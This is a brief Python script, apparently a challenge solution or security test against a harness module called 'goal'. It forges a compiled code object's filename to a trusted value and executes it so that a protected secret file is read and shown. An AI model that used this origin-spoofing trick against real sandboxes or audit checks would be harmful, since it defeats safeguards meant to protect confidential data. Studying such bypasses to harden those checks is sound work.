# SPDX-License-Identifier: Apache-2.0
import goal
import marshal
PADDED = goal.TRUSTED + "_" * 40
code = compile("show(open(path).read())", PADDED, "exec")
data = marshal.dumps(code)
short = marshal.dumps(compile("0", goal.TRUSTED, "exec"))
data = marshal.dumps(code.replace(co_filename=goal.TRUSTED))
exec(marshal.loads(data), {"show": goal.show, "path": goal.SECRET})
